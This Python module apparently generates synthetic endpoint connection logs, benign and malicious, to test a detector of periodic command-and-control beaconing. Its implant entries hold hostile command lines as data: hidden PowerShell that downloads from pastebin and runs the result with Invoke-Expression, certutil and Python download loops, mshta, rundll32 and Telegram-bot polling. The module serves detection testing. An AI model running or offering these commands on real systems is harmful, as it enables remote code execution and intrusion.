# ruff: noqa: E501 (tables read better unbroken)
"""A second, plainer generator that shares nothing with `beacon.simulate`: a guard against its tells.

Programs, parents and hosts are those of the seed's validation tests and of its five classes of
false positives; every figure here is on days that no weight was learned from.
"""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any, NamedTuple

import numpy as np
import polars as pl

from beacon.schema import EVENTS

Rng = np.random.Generator
START = datetime(2026, 3, 3, tzinfo=UTC)
RAW, API, HUB, PASTE, BOT = (
    "raw.githubusercontent.com", "api.github.com", "github.com", "pastebin.com", "api.telegram.org",
)  # fmt: skip
SYS = r"C:\Windows\System32"
PS = SYS + r"\WindowsPowerShell\v1.0\powershell.exe"
PY, NODE, CURL = r"C:\Python312\python.exe", r"C:\Program Files\nodejs\node.exe", SYS + r"\curl.exe"


class Act(NamedTuple):
    """One program on one host."""

    kind: str
    path: str
    line: str
    parent: str
    account: str
    domain: str
    times: np.ndarray
    respawn: bool = False


def timer(rng: Rng, period: float, jitter: float, begin: float, hours: float) -> np.ndarray:
    gaps = period * (1 + jitter * rng.uniform(-1, 1, int(hours * 3600 / period) + 1))
    return begin * 3600 + np.cumsum(gaps) + rng.exponential(0.3, gaps.size)


def bursts(
    rng: Rng, sessions: int, size: int, gap: float, begin: float = 8, end: float = 17
) -> np.ndarray:
    starts = rng.uniform(begin * 3600, end * 3600, sessions)
    return np.sort(
        np.concatenate([s + np.cumsum(rng.exponential(gap, rng.poisson(size) + 1)) for s in starts])
    )


def implants(rng: Rng, user: str) -> list[Act]:
    on, off = rng.uniform(0, 9), rng.uniform(4, 14)
    home = rf"C:\Users\{user}\AppData"
    slow, fast = rng.choice([300, 600, 900, 1800]), rng.choice([20, 30, 60, 120])
    return [
        Act("T1 paste", PS, f'powershell.exe -WindowStyle Hidden -Command "$c=(Invoke-WebRequest https://{PASTE}/raw/Zx81kQ).Content; Invoke-Expression $c"', "cmd.exe", user, PASTE, timer(rng, slow, 0.1, on, off), True),
        Act("T2 python", PY, f'python -c "import urllib.request as u,time;\nwhile True: u.urlopen(\'https://{RAW}/o/r/main/c.txt\').read(); time.sleep({fast})"', "cmd.exe", user, RAW, timer(rng, fast, 0.2, on, off)),
        Act("T3 telegram", CURL, rf"curl.exe -s -o {home}\Local\Temp\tg.txt https://{BOT}/bot000:T/getUpdates", "cmd.exe", user, BOT, timer(rng, fast, 0.0, on, off), True),
        Act("T4 task", PS, f'powershell.exe -WindowStyle Hidden -Command "Invoke-WebRequest https://{RAW}/o/r/main/c.txt"', "svchost.exe", user, RAW, timer(rng, 300, 0.0, on, off), True),
        Act("python file", rf"{home}\Roaming\sync\pythonw\python.exe", rf"{home}\Roaming\sync\pythonw\python.exe s.py", "explorer.exe", user, RAW, timer(rng, fast, 0.3, on, off)),
        Act("node file", rf"{home}\Local\Temp\n\node.exe", "node.exe a.js", "wscript.exe", user, "gist.github.com", timer(rng, slow, 0.2, on, off)),
        Act("macro", SYS + r"\mshta.exe", rf"mshta.exe {home}\Local\Temp\i.hta", "winword.exe", user, PASTE, timer(rng, fast, 0.2, on, off)),
        Act("rundll32", SYS + r"\rundll32.exe", r"rundll32.exe C:\ProgramData\msx.dll,Start", "explorer.exe", user, "drive.google.com", timer(rng, slow, 0.4, on, off)),
        Act("certutil", SYS + r"\certutil.exe", rf"certutil -urlcache -f https://{RAW}/a/b/c.txt C:\Users\Public\c.txt", "cmd.exe", user, RAW, timer(rng, slow, 0.1, on, off), True),
        Act("clean python", PY, rf"python.exe C:\Users\{user}\helper.py", "explorer.exe", user, HUB, timer(rng, fast, 0.1, on, off)),
    ]  # fmt: skip


def developer(rng: Rng, user: str) -> Iterator[Act]:
    for n in range(int(rng.integers(2, 6))):
        path, line, parent = [
            (PY, f"python manage{n}.py", "cmd.exe"),
            (NODE, r'"C:\Program Files\nodejs\node.exe" C:\Users\x\app\index.js', "cmd.exe"),
            (NODE, r'node "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install', "Code.exe"),
            (PY, "python -m pip install git+https://github.com/o/p", "powershell.exe"),
            (r"C:\Program Files\PowerShell\7\pwsh.exe", "pwsh -NoLogo", "WindowsTerminal.exe"),
            (CURL, f"curl -sL https://{API}/repos/o/r/releases/latest", "bash.exe"),
        ][int(rng.integers(6))]  # fmt: skip
        domain = str(rng.choice([HUB, API, RAW, "gitlab.com"]))
        yield Act("developer", path, line, parent, user, domain, bursts(rng, 5, 6, 20))
    if rng.random() < 0.15:
        watch = timer(rng, 30, 0.0, rng.uniform(9, 14), rng.uniform(0.3, 2))
        yield Act("ci watch", PY, "python watch_ci.py", "Code.exe", user, API, watch)


def fleetwide(rng: Rng) -> list[Act]:
    chef = r"C:\opscode\chef\embedded\bin\ruby.exe"
    return [
        Act("chef", chef, f"{chef} chef-client", "cmd.exe", "system", HUB, timer(rng, 1800, 0.1, 0, 24), True),
        Act("updater", PS, r"powershell.exe -NoProfile -File C:\ProgramData\Acme\update.ps1", "svchost.exe", "system", API, timer(rng, 14_400, 0.05, rng.uniform(0, 4), 20), True),
        Act("intune", PS, r"powershell.exe -NonInteractive -ExecutionPolicy Bypass -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==", "AgentExecutor.exe", "system", "contoso.sharepoint.com", timer(rng, 3600, 0.1, rng.uniform(7, 9), 9), True),
    ]  # fmt: skip


def server(rng: Rng, n: int) -> list[Act]:
    return [
        [
            Act("bot", PY, r"C:\Python312\python.exe C:\apps\bot\main.py", "services.exe", "svc-bot", BOT, timer(rng, 30, 0.02, 0, 24)),
            Act("alerts", PS, rf"powershell.exe -File C:\mon\notify{n}.ps1 -Method Post", "svchost.exe", "svc-mon", "discord.com", bursts(rng, 4, 2, 60, 0, 24), True),
        ],
        [Act("ti feed", PY, r"python.exe C:\soc\pull_iocs.py", "svchost.exe", "svc-soc", RAW, timer(rng, 3600, 0.0, 0, 24), True)],
        [
            Act("ci", p, line, "Runner.Worker.exe", "svc-ci", d, bursts(rng, 14, 5, 4, 0, 24), True)
            for p, line, d in [(PS, "powershell -command .\\build.ps1", HUB), (NODE, "node dist/index.js", API), (PY, "python tests.py", RAW)]
        ],
        [Act("ansible", PS, "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==", "wsmprovhost.exe", "svc-ansible", HUB, timer(rng, 1800, 0.05, 0, 24), True)],
    ][n % 4]  # fmt: skip


def day(seed: int, hosts: int = 120) -> tuple[pl.DataFrame, pl.DataFrame]:
    """Events and truth (host, process, domain, label, kind) of one day."""
    rng = np.random.default_rng([seed, 99])
    victims = rng.choice(hosts, 10, replace=False)
    rows: list[dict[str, Any]] = []
    truth: dict[tuple[str, str, str], tuple[str, str]] = {}
    for h in range(hosts):
        role = "server" if h % 8 == 7 else "developer" if h % 4 == 1 else "office"
        name, user = f"pc{h:03}", f"u{h}"
        acts = list(server(rng, h // 8)) if role == "server" else []
        acts += list(developer(rng, user)) if role == "developer" else []
        acts += [a for a, luck in zip(fleetwide(rng), rng.random(3), strict=True) if luck < 0.6]
        if role != "server":
            acts.append(Act("browser", r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", "explorer.exe", user, "www.bing.com", bursts(rng, 20, 10, 30)))  # fmt: skip
        bad = [implants(rng, user)[int(np.flatnonzero(victims == h)[0])]] if h in victims else []
        for act in [*bad, *acts]:
            file = act.path.rsplit("\\", 1)[1]
            key = (name, file.lower(), act.domain)
            truth.setdefault(key, ("poller" if act in bad else "benign", act.kind))
            rows += _rows(rng, act, name, file)
    columns = {c: [r.get(c) for r in rows] for c in EVENTS}
    events = pl.DataFrame(columns, schema=EVENTS).sort("Timestamp")
    keys = [(*key, *value) for key, value in truth.items()]
    names = ["host", "process", "domain", "label", "kind"]
    return events, pl.DataFrame(keys, schema=names, orient="row")


def _rows(rng: Rng, act: Act, host: str, file: str) -> Iterator[dict[str, Any]]:
    pid = int(rng.integers(1000, 30_000))
    for seconds in act.times[act.times < 86_400]:
        when = START + timedelta(seconds=float(seconds))
        pid += 4 if act.respawn else 0
        yield {
            "Timestamp": when, "DeviceName": host, "ActionType": "ConnectionSuccess",
            "RemoteUrl": act.domain, "RemoteIP": "203.0.113.7", "RemotePort": 443,
            "InitiatingProcessFileName": file, "InitiatingProcessFolderPath": act.path.lower(),
            "InitiatingProcessId": pid, "InitiatingProcessCommandLine": act.line,
            "InitiatingProcessParentFileName": act.parent,
            "InitiatingProcessAccountName": act.account,
            "InitiatingProcessAccountDomain": "nt authority" if act.account == "system" else "corp",
            "ReportId": int(rng.integers(1 << 40)),
        }  # fmt: skip
